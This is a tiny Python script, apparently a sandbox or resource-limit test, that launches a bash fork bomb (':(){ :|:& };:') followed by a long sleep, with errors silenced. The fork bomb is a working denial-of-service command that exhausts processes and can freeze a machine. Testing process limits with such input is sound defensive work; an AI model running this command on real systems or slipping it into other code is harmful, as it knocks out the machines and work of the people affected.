# The classic of a shell's prompt.
# ends: timeout or exited
# limit: 2
import subprocess

subprocess.run(["bash", "-c", ":(){ :|:& };: ; sleep 600"], stderr=subprocess.DEVNULL)
